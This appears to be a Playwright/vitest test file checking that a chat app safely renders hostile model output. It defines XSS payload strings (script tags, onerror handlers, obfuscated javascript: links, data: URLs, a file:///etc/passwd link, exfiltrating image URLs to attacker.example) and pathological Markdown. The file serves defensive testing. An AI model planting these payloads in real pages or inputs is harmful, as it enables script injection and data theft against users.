import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { createApi } from "../../src/protocol/api";
import { isKnown } from "../../src/protocol/events";
import { messagesOf } from "../support/gateway";
import { answer, answered, composer, conversation, PATIENTLY, storedAnswer } from "./support/chat";
import { listed, sidebar } from "./support/sidebar";
import { Stage } from "./support/stage";
import { size, watch } from "./support/unharmed";

const stage = new Stage();

const RUN = "window.hacked=1";
// The rest of a page, its lists and buttons, without any answer.
const MOST_ELEMENTS = 12_000;

const HTML = `<script>${RUN}</script>
<img src="https://attacker.example/pixel.png" onerror="${RUN}">
<img src=x onerror=${RUN}>
<svg onload="${RUN}"><script>${RUN}</script></svg>
<iframe src="javascript:${RUN}" srcdoc="<script>parent.hacked=1</script>"></iframe>
<object data="https://attacker.example/"></object><embed src="data:text/html,<script>${RUN}</script>">
<form action="https://attacker.example/"><button autofocus onfocus="${RUN}">Send</button></form>
<style>* { display: none } body { background: url(https://attacker.example/style) }</style>
<link rel="stylesheet" href="https://attacker.example/style.css">
<meta http-equiv="refresh" content="0;url=https://attacker.example/"><base href="https://attacker.example/">
<details open ontoggle="${RUN}"><video src=x onerror="${RUN}"></video></details>
<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>
&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;

<div onclick="${RUN}">

**Still Markdown** <b>not bold</b>

</div>`;

const LINKS = `[one](javascript:${RUN}) [two](JaVaScRiPt:${RUN}) [three](&#106;avascript:${RUN})
[four](java%0ascript:${RUN}) [five](data:text/html,<script>${RUN}</script>) [six](vbscript:${RUN})
[seven](//attacker.example/) [eight](/api/session) [nine](#main) <javascript:${RUN}> [ten][ten]
[eleven](blob:https://attacker.example/1) [twelve](file:///etc/passwd) [thirteen]( javascript:${RUN} "title")
[safe](https://example.org/) [bank.example](https://attacker.example/)

[ten]: javascript:${RUN}`;

const IMAGES = `![one](https://attacker.example/one.png?secret=1) ![two](//attacker.example/two.png)
![three](http://attacker.example/three.png) ![four](javascript:${RUN}) ![five](/api/session)
![six](data:image/svg+xml,<svg%20onload="${RUN}"/>) ![seven](data:text/html;base64,PHNjcmlwdD4=)
![eight][eight] [![nine](https://attacker.example/nine.png)](https://example.org/)

| a |
| --- |
| ![ten](https://attacker.example/ten.png) |

[eight]: https://attacker.example/eight.png`;

const FORMULAS = `$$\\href{javascript:${RUN}}{x}$$

$$\\includegraphics{https://attacker.example/formula.png}$$

$$\\htmlData{onclick=${RUN}}{x} \\url{javascript:${RUN}}$$

$$\\def\\x{\\x\\x}\\x$$

$$${"{".repeat(4000)}$$`;

const FENCES = `\`\`\`"><img/src/onerror=${RUN}>
code
\`\`\`

\`\`\`__proto__
code
\`\`\`

\`\`\`html
<script>${RUN}</script>
\`\`\``;

test.each([
  ["HTML", HTML],
  ["links that run or mislead", LINKS],
  ["images that tell somebody", IMAGES],
  ["formulas that link, fetch and never end", FORMULAS],
  ["code in languages that are none", FENCES],
])("%s: nothing runs, nobody is asked", async (_, attack) => {
  const device = await stage.device();
  const watched = await watch(device);
  const address = await conversation(stage.gateway);
  const page = await device.visit(address);
  await asked(page, `echo@2000: ${attack}`);
  await watched.unharmed(page, address);
  await page.reload();
  await answer(page).getByRole("button", { name: "Answer again", exact: true }).waitFor();
  await watched.unharmed(page, address);
  const leads = await answer(page)
    .locator("[href]")
    .evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? ""));
  for (const href of leads) expect(href).toMatch(/^(?:https?:|mailto:)/);
  const made = await page.locator("article").locator("script, iframe, object, embed, form, style, link, base, video");
  expect(await made.count()).toBe(0);
});

test("HTML is there to be read, as it was written", async () => {
  const page = await (await stage.device()).visit(await conversation(stage.gateway, {}, `echo@2000: ${HTML}`));
  await answer(page).getByText("<script>window.hacked=1</script>").first().waitFor();
  await answer(page).getByText("<b>not bold</b>").waitFor();
  expect(await answer(page).locator("strong").allTextContents()).toEqual(["Still Markdown"]);
});

test("a link says where it leads when its words say otherwise, and gives away nothing", async () => {
  const page = await (await stage.device()).visit(await conversation(stage.gateway, {}, `echo@2000: ${LINKS}`));
  await answer(page).getByText("bank.example (leads to attacker.example)").waitFor();
  const links = answer(page).getByRole("link");
  expect(await links.evaluateAll((all) => all.map((link) => [link.textContent, link.getAttribute("rel")]))).toEqual([
    ["safe", "noopener noreferrer nofollow"],
    ["bank.example", "noopener noreferrer nofollow"],
  ]);
});

test("an image of elsewhere is fetched when one asks for it, and then alone", async () => {
  const device = await stage.device();
  device.expects(/attacker\.example\/one\.png|net::ERR_/);
  const page = await device.visit(await conversation(stage.gateway, {}, `echo@2000: ${IMAGES}`));
  await device.context.route("https://attacker.example/**", (route) => route.abort());
  const request = page.waitForRequest(/attacker\.example/);
  await answer(page)
    .getByRole("button", { name: /^Load image from attacker\.example: one/ })
    .click();
  expect((await request).headers().referer).toBeUndefined();
  await answer(page)
    .getByText(/The image “one” could not be loaded/)
    .waitFor();
});

test("a million characters on one line freeze nothing", async () => {
  const device = await stage.device();
  const watched = await watch(device);
  const address = await conversation(stage.gateway);
  const page = await device.visit(address);
  await asked(page, `echo: ${"x".repeat(900_000)}`);
  await answer(page).getByText("This passage is shown as plain text").waitFor();
  await watched.unharmed(page, address);
  expect(await size(page)).toBeLessThan(MOST_ELEMENTS);
});

test("a table of ten thousand rows is drawn a part at a time", async () => {
  const device = await stage.device();
  const watched = await watch(device);
  const rows = Array.from({ length: 10_000 }, (_, row) => `|row${row}|${row * 7}|`).join("\n");
  const address = await conversation(stage.gateway);
  const page = await device.visit(address);
  await asked(page, `echo@20000: |name|number|\n|---|---|\n${rows}`);
  await answer(page).getByText("10K rows").waitFor();
  await watched.unharmed(page, address);
  expect(await size(page)).toBeLessThan(MOST_ELEMENTS);
  await answer(page)
    .getByRole("button", { name: /^Show 1,000 more/ })
    .click();
  await answer(page).getByText("row1199").waitFor();
  await watched.unharmed(page, address);
});

test.each([
  ["emphasis that never ends", `${"**a *b _c ".repeat(3000)}`],
  ["brackets that never close", `${"[".repeat(30_000)}`],
  ["quotes in quotes", `${">".repeat(5000)} deep`],
  ["lists in lists", Array.from({ length: 300 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
  ["fences within fences", `${"```\n~~~\n````\n".repeat(300)}`],
  ["half a table", `| a | b |\n| --- |\n| ${"| ".repeat(5000)}`],
  ["references to each other", Array.from({ length: 500 }, (_, n) => `[^${n}]: see [^${n + 1}]`).join("\n")],
  ["entities and backslashes", `${"&amp;\\*".repeat(5000)}`],
  ["marks upon marks", `Z${"\u0301".repeat(50_000)}`],
])("broken Markdown, %s: it is shown, and nothing freezes", async (_, attack) => {
  const device = await stage.device();
  const watched = await watch(device);
  const address = await conversation(stage.gateway);
  const page = await device.visit(address);
  await asked(page, `echo@20000: ${attack}`);
  await watched.unharmed(page, address);
  expect(await size(page)).toBeLessThan(MOST_ELEMENTS);
});

test("marks that turn the direction of text are seen and turn nothing", async () => {
  const turned = "invoice\u202Efdp.exe \u2066abc\u2069";
  const address = await conversation(stage.gateway, { title: turned }, `echo: ${turned}\n\n\`${turned}\``);
  const page = await (await stage.device()).visit(address);
  await answer(page).getByText("invoice\ufffdfdp.exe").first().waitFor();
  expect(await answer(page).textContent()).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
});

test("thoughts are only those at the beginning, and a text that speaks of them stays a text", async () => {
  const address = await conversation(stage.gateway, { model: "scripted/think-late" }, "Go");
  const page = await (await stage.device()).visit(address);
  await answer(page).getByText("Write <think>this</think> literally.").waitFor();
  expect(
    await answer(page)
      .getByRole("button", { name: /^Thought|^Thoughts/ })
      .count(),
  ).toBe(0);
  await page.goto(await conversation(stage.gateway, { model: "scripted/think-unclosed" }, "Go"));
  await answer(page)
    .getByRole("button", { name: /^Thought/ })
    .waitFor();
  expect((await storedAnswer(stage.gateway, page)).content).toBe("");
});

test("a title and the name of a file are text, wherever they stand", async () => {
  const device = await stage.device();
  const watched = await watch(device);
  const name = `"><img src=x onerror=${RUN}>.html`;
  const address = await conversation(stage.gateway, { title: `<img src=x onerror=${RUN}>`, model: "openai/gpt-5.1" });
  const page = await device.visit(address);
  await page
    .getByLabel("Files to attach")
    .setInputFiles({ name, mimeType: "text/html", buffer: Buffer.from(`<script>${RUN}</script>`) });
  await page.getByRole("list", { name: "Attachments" }).getByText(/^HTML/).waitFor();
  await composer(page).fill("echo: Read it.");
  await composer(page).press("Enter");
  await answered(page);
  await listed(page, `<img src=x onerror=${RUN}>`).waitFor();
  // What it says of itself is not believed: it is saved, and shown nowhere.
  const download = page.waitForEvent("download");
  await page.getByRole("link", { name: /^Download .*html/ }).click();
  await download;
  const { parts } = (await messagesOf(stage.gateway, address.slice(3))).find(({ role }) => role === "user") ?? {
    parts: [],
  };
  const [url = ""] = parts.flatMap((part) => (isKnown(part) && part.type === "file" ? [part.url] : []));
  const served = await page.request.get(url);
  expect(served.headers()["content-disposition"]).toMatch(/^attachment/);
  expect(served.headers()["content-security-policy"]).toContain("sandbox");
  await watched.unharmed(page, address);
});

test("titles as long as a page, in any script, break no list", async () => {
  const titles = ["W".repeat(500), "שלום עולם ".repeat(40), "🙂".repeat(100), "\u0301".repeat(100)];
  for (const title of titles) await conversation(stage.gateway, { title });
  const page = await (await stage.device()).visit();
  await listed(page, /W{400}/).waitFor();
  const { width } = (await sidebar(page).boundingBox()) ?? { width: 0 };
  const widest = await sidebar(page)
    .getByRole("link")
    .evaluateAll((links) => Math.max(...links.map((link) => link.getBoundingClientRect().right)));
  expect(widest).toBeLessThanOrEqual(width);
});

/** Asked by another client while this page looks on, and answered to the end. */
async function asked(page: Page, message: string): Promise<void> {
  const id = new URL(page.url()).pathname.slice(3);
  await composer(page).waitFor();
  await createApi(stage.gateway).POST("/api/conversations/{conversation_id}/runs", {
    params: { path: { conversation_id: id } },
    body: { message },
  });
  await answer(page).waitFor();
  await answered(page);
  await expect.poll(async () => (await storedAnswer(stage.gateway, page)).status, PATIENTLY).toBe("completed");
}
